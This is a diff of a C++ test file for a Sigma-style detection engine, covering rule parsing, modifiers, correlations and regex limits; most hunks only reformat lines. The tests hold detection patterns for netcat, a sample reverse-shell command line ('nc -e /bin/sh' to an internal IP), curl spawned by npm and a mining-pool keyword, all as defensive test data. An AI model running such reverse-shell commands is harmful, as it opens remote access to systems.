@@ -77,12 +77,15 @@ TEST_CASE("the built-in pipeline loads and routes the Linux categories to our ki
 TEST_CASE("pipeline: a field mapped twice, an unknown target, an unsupported transformation are refused") {
   const std::string head = "name: x\ntransformations:\n";
   const std::string cond = "    rule_conditions:\n      - type: logsource\n        category: process_creation\n";
-  auto twice = parse_pipeline(head + "  - id: a\n    type: field_name_mapping\n    mapping: {Image: process.exe}\n" +
-                              cond + "  - id: b\n    type: field_name_mapping\n    mapping: {Image: data.cwd}\n" + cond);
+  auto twice =
+      parse_pipeline(head + "  - id: a\n    type: field_name_mapping\n    mapping: {Image: process.exe}\n" + cond +
+                     "  - id: b\n    type: field_name_mapping\n    mapping: {Image: data.cwd}\n" + cond);
   REQUIRE(!twice);
   CHECK(twice.error().message == "pipeline: 'Image' mapped twice (a, b)");
-  auto dup_key = parse_pipeline(head + "  - id: a\n    type: field_name_mapping\n    mapping:\n      Image: process.exe\n"
-                                       "      Image: data.cwd\n" + cond);
+  auto dup_key = parse_pipeline(head +
+                                "  - id: a\n    type: field_name_mapping\n    mapping:\n      Image: process.exe\n"
+                                "      Image: data.cwd\n" +
+                                cond);
   REQUIRE(!dup_key);
   CHECK(dup_key.error().message.find("key 'Image' given twice") != std::string::npos);
   auto unknown = parse_pipeline(head + "  - id: a\n    type: field_name_mapping\n    mapping: {Image: process.nope}\n");
@@ -122,7 +125,8 @@ TEST_CASE("contains, startswith, endswith, all") {
             exec("/usr/bin/ncat", "")));
   CHECK(!hit(proc_rule("  sel:\n    Image|endswith:\n      - '/nc'\n      - '/ncat'\n  condition: sel\n"),
              exec("/usr/bin/ncatx", "")));
-  const auto all = proc_rule("  sel:\n    CommandLine|contains|all:\n      - ' -e '\n      - '/bin/sh'\n  condition: sel\n");
+  const auto all =
+      proc_rule("  sel:\n    CommandLine|contains|all:\n      - ' -e '\n      - '/bin/sh'\n  condition: sel\n");
   CHECK(hit(all, exec("", "nc -e /bin/sh 10.0.0.1")));
   CHECK(!hit(all, exec("", "nc -e /bin/bash 10.0.0.1")));
 }
@@ -136,7 +140,8 @@ TEST_CASE("re with i, m, s; regexes are case-sensitive by default") {
   CHECK(hit(proc_rule("  sel:\n    CommandLine|re|m: '^b'\n  condition: sel\n"), exec("", "a\nb")));
   CHECK(!hit(proc_rule("  sel:\n    CommandLine|re: 'a.b'\n  condition: sel\n"), exec("", "a\nb")));
   CHECK(hit(proc_rule("  sel:\n    CommandLine|re|s: 'a.b'\n  condition: sel\n"), exec("", "a\nb")));
-  CHECK(reason(proc_rule("  sel:\n    CommandLine|re: '(a'\n  condition: sel\n")).find("field 'CommandLine': re:") == 0);
+  CHECK(reason(proc_rule("  sel:\n    CommandLine|re: '(a'\n  condition: sel\n")).find("field 'CommandLine': re:") ==
+        0);
   CHECK(reason(proc_rule("  sel:\n    CommandLine|i: 'a'\n  condition: sel\n")) ==
         "field 'CommandLine': modifiers i, m, s apply to 're' only");
 }
@@ -193,7 +198,9 @@ TEST_CASE("base64, base64offset|contains, windash") {
         "field 'CommandLine': modifier 'base64offset' needs 'contains'");
   const auto wd = proc_rule("  sel:\n    CommandLine|windash|contains: ' -exec '\n  condition: sel\n");
   CHECK(hit(wd, exec("", "find . /exec x")));
-  CHECK(hit(wd, exec("", "find . \xe2\x80\x93" "exec x")));
+  CHECK(hit(wd, exec("",
+                     "find . \xe2\x80\x93"
+                     "exec x")));
   CHECK(!hit(wd, exec("", "find . +exec x")));
 }
 
@@ -229,7 +236,7 @@ TEST_CASE("condition forms: and, or, not, parentheses, 1 of, all of, N of, them"
   CHECK(hit(with("all of selection_*"), ab));
   CHECK(hit(with("2 of them"), ab));
   CHECK(!hit(with("3 of them"), ab));
-  CHECK(hit(with("all of them"), abc));  // _hidden is not part of them
+  CHECK(hit(with("all of them"), abc));                            // _hidden is not part of them
   CHECK(hit(with("selection_a or selection_b and filter_c"), a));  // and binds tighter than or
   // a list of conditions is their OR
   CHECK(hit(proc_rule(sels + "  condition:\n    - selection_b\n    - selection_a\n"), a));
@@ -256,7 +263,8 @@ TEST_CASE("detection maps, lists of maps, keyword lists") {
   cwd.m["data.cwd"] = {"/tmp/stratum+tcp://x"};
   CHECK(hit(kw, cwd));
   CHECK(!hit(kw, exec("/usr/bin/make", "make -j8")));
-  CHECK(reason(proc_rule("  sel:\n    - Image: a\n    - b\n  condition: sel\n")) == "search 'sel' mixes maps and keywords");
+  CHECK(reason(proc_rule("  sel:\n    - Image: a\n    - b\n  condition: sel\n")) ==
+        "search 'sel' mixes maps and keywords");
   CHECK(reason(proc_rule("  sel:\n    Image: []\n  condition: sel\n")) == "field 'Image': an empty list of values");
   CHECK(reason(proc_rule("  sel:\n    Image: a\n  timeframe: 5m\n  condition: sel\n")) ==
         "detection timeframe (v1 aggregation) is obsolete; write a correlation rule");
@@ -310,8 +318,9 @@ TEST_CASE("the adapter over our events: JSON paths, derived fields, the parent l
   CHECK(values(with_parent, "derived.parent_exe") == std::vector<std::string>{"/usr/bin/npm"});
   CHECK(values(with_parent, "derived.parent_command_line") == std::vector<std::string>{"npm install"});
   // the rule over the adapter
-  const auto set = load(proc_rule("  sel:\n    ParentImage|endswith: '/npm'\n    Image|endswith: '/curl'\n"
-                                  "  condition: sel\n"));
+  const auto set =
+      load(proc_rule("  sel:\n    ParentImage|endswith: '/npm'\n    Image|endswith: '/curl'\n"
+                     "  condition: sel\n"));
   REQUIRE(set.rules.size() == 1);
   CHECK(!matches(set.rules[0], plain));
   CHECK(matches(set.rules[0], with_parent));
@@ -370,11 +379,13 @@ TEST_CASE("correlations: parsed, validated, evaluated per group in windows") {
   a = corr.feed(dig, d1, "job", 102);
   REQUIRE(a.size() == 1);
   CHECK(a[0].correlation->title == "many digs");
-  CHECK(a[0].group == "job\x1f" "b1");
+  CHECK(a[0].group ==
+        "job\x1f"
+        "b1");
   a = corr.feed(curl, c, "job", 120);  // curl within 30 s after a dig
   REQUIRE(a.size() == 1);
   CHECK(a[0].correlation->title == "dig then curl");
-  CHECK(corr.feed(curl, c, "job", 200).empty());  // no dig since
+  CHECK(corr.feed(curl, c, "job", 200).empty());    // no dig since
   CHECK(corr.feed(dig, d1, "other", 300).empty());  // windows are per group
   CHECK(corr.feed(dig, d1, "other", 400).empty());  // ...and slide
   // validation
@@ -382,13 +393,15 @@ TEST_CASE("correlations: parsed, validated, evaluated per group in windows") {
         "correlation event_count without a condition");
   CHECK(reason("title: c\ncorrelation:\n  type: sum\n  rules: [x]\n  timespan: 1m\n")
             .find("correlation type 'sum' is not supported") == 0);
-  CHECK(reason("title: c\ncorrelation:\n  type: temporal\n  rules: [x, y]\n  timespan: 1fortnight\n")
-            .find("timespan") == 0);
+  CHECK(
+      reason("title: c\ncorrelation:\n  type: temporal\n  rules: [x, y]\n  timespan: 1fortnight\n").find("timespan") ==
+      0);
   auto missing = load(rule + "---\ntitle: c\ncorrelation:\n  type: temporal\n  rules: [dig, nope]\n  timespan: 1m\n");
   REQUIRE(missing.rejected.size() == 1);
   CHECK(missing.rejected[0].reason == "correlation: names no loaded rule 'nope'");
-  auto unmapped = load(rule + "---\ntitle: c\ncorrelation:\n  type: event_count\n  rules: [dig]\n"
-                              "  group-by: [LogonId]\n  timespan: 1m\n  condition: {gte: 2}\n");
+  auto unmapped = load(rule +
+                       "---\ntitle: c\ncorrelation:\n  type: event_count\n  rules: [dig]\n"
+                       "  group-by: [LogonId]\n  timespan: 1m\n  condition: {gte: 2}\n");
   REQUIRE(unmapped.rejected.size() == 1);
   CHECK(unmapped.rejected[0].reason == "correlation: field 'LogonId' is not mapped for rule 'dig'");
 }
@@ -425,8 +438,9 @@ TEST_CASE("bad input: a condition nested 1,000 deep is refused") {
 }
 
 TEST_CASE("bad input: catastrophic regexes run in linear time or are refused") {
-  const auto set = load(proc_rule("  sel:\n    CommandLine|re: '(a+)+$b'\n  sel2:\n    CommandLine|re: '(x*)*y'\n"
-                                  "  sel3:\n    CommandLine: '*a*a*a*a*a*a*a*a*a*a*a*a*b'\n  condition: 1 of sel*\n"));
+  const auto set =
+      load(proc_rule("  sel:\n    CommandLine|re: '(a+)+$b'\n  sel2:\n    CommandLine|re: '(x*)*y'\n"
+                     "  sel3:\n    CommandLine: '*a*a*a*a*a*a*a*a*a*a*a*a*b'\n  condition: 1 of sel*\n"));
   REQUIRE(set.rules.size() == 1);
   MapFields f = exec("", std::string(1 << 20, 'a') + "!");
   const auto t0 = std::chrono::steady_clock::now();
@@ -434,8 +448,10 @@ TEST_CASE("bad input: catastrophic regexes run in linear time or are refused") {
   const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0).count();
   CHECK(ms < 5000);  // backtracking would take longer than the universe
   // a program too large for its memory bound is refused at load
-  CHECK(reason(proc_rule("  sel:\n    CommandLine|re: '((((a{100}){100}){100}){100})'\n  condition: sel\n"))
-            .find("field 'CommandLine': re: ") == 0);
+  std::string huge;
+  for (int i = 0; i < 100; ++i) huge += "[a-z]{1000}";
+  CHECK(reason(proc_rule("  sel:\n    CommandLine|re: '" + huge + "'\n  condition: sel\n")) ==
+        "field 'CommandLine': re: pattern too large - compile failed");
 }
 
 TEST_CASE("bad input: 10,000 rules load in bounded time") {
